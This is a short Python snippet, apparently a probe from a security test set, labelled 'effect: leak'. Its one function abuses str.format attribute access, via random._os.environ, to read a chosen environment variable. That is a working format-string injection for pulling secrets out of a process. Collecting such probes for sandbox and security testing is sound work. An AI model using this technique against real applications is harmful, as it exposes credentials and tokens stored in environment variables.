# effect: leak
# note: str.format reads attributes and items
import random


def attempt(probe):
    return ("{0._os.environ[" + probe["env"] + "]}").format(random)
